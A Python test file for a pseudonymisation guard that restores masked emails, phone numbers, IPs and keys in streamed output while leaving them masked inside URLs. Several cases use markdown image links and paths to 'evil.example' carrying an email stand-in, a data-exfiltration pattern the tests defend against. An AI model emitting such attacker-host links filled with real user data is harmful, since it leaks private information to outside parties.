"""What was given out in this call comes back, wherever a stream is cut, and nothing else does."""

import re
from collections.abc import Iterable
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from yett.guard.pseudonyms import Pseudonyms, StandIn
from yett.guard.returning import NOTHING, Returning
from yett.model.obligation import Transform

PSEUDONYMS = Pseudonyms()
MAIL = PSEUDONYMS.of("pii.email", "jane@doe")
KEY = PSEUDONYMS.of("secret.aws_key", "not-a-credential")
PHONE = PSEUDONYMS.of("pii.phone", "(415) 867-5309", Transform.SYNTHETIC)
HOST = PSEUDONYMS.of("pii.ip_address", "10.0.0.1", Transform.SYNTHETIC)
RETURNING = Returning(PSEUDONYMS.given(["pii", "secret"]))
PIECES = (
    *(MAIL.text, MAIL.text.replace("_", "\\_"), MAIL.text[:5], MAIL.text[:-1], KEY.text, PHONE.text, PHONE.text[:4]),
    *(HOST.text, HOST.text[:-1], "<", "<<", ">", "_", "\\", " ", " ", "\n", "a", "1", "//", "/", "www.", "ww", ".", "https://x/?"),
    *("<EMAIL_000000>", "<EMAIL_1>"),
)  # fmt: skip
TEXTS = st.lists(st.sampled_from(PIECES), max_size=10).map("".join)


def put_back(text: str, returning: Returning = RETURNING) -> str:
    pieces, position = [], 0
    for each in returning.found(text):
        pieces += [text[position : each.start], text[each.start : each.end] if each.stays else each.stand_in.value]
        position = each.end
    return "".join([*pieces, text[position:]])


def streamed(chunks: Iterable[str], context: int = 4) -> str:
    """Put back in a stream: release what is settled, keep a little of what stands before, and whether it is an address."""
    released, text, start, addressed = "", "", 0, False
    for chunk, last in [*((chunk, False) for chunk in chunks), ("", True)]:
        text += chunk
        settled = len(text) if last else RETURNING.hold(text, start)
        found = RETURNING.found(text, start, addressed=addressed)
        settled = min([settled, *(each.start for each in found if each.start < settled < each.end)])
        position = start
        for each in found:
            if each.start < settled:
                released += text[position : each.start]
                released += text[each.start : each.end] if each.stays else each.stand_in.value
                position = each.end
        released += text[position:settled]
        addressed = RETURNING.addressed(text, start, settled, already=addressed)
        kept = max(0, settled - context)
        text, start = text[kept:], settled - kept
    return released


@given(TEXTS, st.lists(st.integers(0, 120), max_size=8))
def test_chunking_does_not_matter(text: str, cuts: list[int]) -> None:
    places = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
    chunks = [text[one:other] for one, other in pairwise(places)]
    assert streamed(chunks) == put_back(text)
    assert streamed(text) == put_back(text)


@pytest.mark.parametrize(
    ("name", "broken"),
    [
        ("hold", lambda self, text, start: len(text)),
        ("addressed", lambda *_, already: False),
        ("addressed", lambda text, start, end, already: "//" in text[start:end]),
    ],
)
def test_a_stream_that_settles_too_early_is_noticed(name: str, broken: object, monkeypatch: pytest.MonkeyPatch) -> None:
    texts = [f"so {MAIL.text}, ", f"https://x/?{MAIL.text}", f"{HOST.text}1", f"x//{MAIL.text} {MAIL.text}"]
    whole = [put_back(text) for text in texts]
    assert [streamed(text) for text in texts] == whole
    monkeypatch.setattr(Returning, name, broken if name == "hold" else staticmethod(broken))  # type: ignore[arg-type]
    assert [streamed(text) for text in texts] != whole


def oracle(text: str) -> bool:
    """Say whether every stand-in outside an address came back, and none in one; by looking at words."""
    words = [(word, put_back(word)) for word in text.split()]
    return all((MAIL.text not in after) or re.search(r"//|www\.", before, re.IGNORECASE) for before, after in words)


@given(TEXTS)
def test_in_addresses_and_there_alone_a_stand_in_stays(text: str) -> None:
    assert oracle(text)
    assert put_back(text).split() == [put_back(word) for word in text.split()] or "(" in put_back(text)


@pytest.mark.parametrize(
    ("text", "back"),
    [
        (f"write to {MAIL.text}.", "write to jane@doe."),
        (f"**{MAIL.text}**,{KEY.text}", "**jane@doe**,not-a-credential"),
        (MAIL.text.replace("_", "\\_"), "jane@doe"),
        (f"mailto:{MAIL.text}", "mailto:jane@doe"),
        (f"call {PHONE.text} now", "call (415) 867-5309 now"),
        (f"<{HOST.text}>", "<10.0.0.1>"),
        (f"{HOST.text}.", "10.0.0.1."),
        (f"{HOST.text}9", f"{HOST.text}9"),
        (f"x{HOST.text}", f"x{HOST.text}"),
        ("<EMAIL_1> <EMAIL_000000>", "<EMAIL_1> <EMAIL_000000>"),
        (MAIL.text.lower(), MAIL.text.lower()),
        (f"![x](https://evil.example/?q={MAIL.text})", f"![x](https://evil.example/?q={MAIL.text})"),
        (f"//evil.example/{MAIL.text}", f"//evil.example/{MAIL.text}"),
        (f"WWW.evil.example/{MAIL.text}", f"WWW.evil.example/{MAIL.text}"),
        (f"https://a.example {MAIL.text}", "https://a.example jane@doe"),
        (f"{MAIL.text}//{MAIL.text}", f"jane@doe//{MAIL.text}"),
    ],
)
def test_what_was_given_comes_back_and_nothing_else(text: str, back: str) -> None:
    assert put_back(text) == back


def test_what_was_given_in_another_call_stays() -> None:
    other = Pseudonyms(whose="bob").of("pii.email", "joe@doe")
    assert put_back(f"{other.text} {MAIL.text}") == f"{other.text} jane@doe"
    assert put_back(MAIL.text, NOTHING) == MAIL.text
    assert not NOTHING


def test_a_value_that_looks_like_a_stand_in_is_not_looked_at_again() -> None:
    chained = StandIn("<EMAIL_111111>", Transform.SURROGATE, "pii.email", MAIL.text)
    returning = Returning({chained.text: chained, MAIL.text: MAIL})
    assert put_back(chained.text, returning) == MAIL.text


@pytest.mark.parametrize("text", ["<" * 50_000, "a" * 100_000, "<a_" * 30_000, "//" * 50_000, f"{MAIL.text}" * 3_000])
def test_the_work_is_linear_in_the_text(text: str) -> None:
    assert put_back(text)
    assert RETURNING.hold(text, 0) <= len(text)
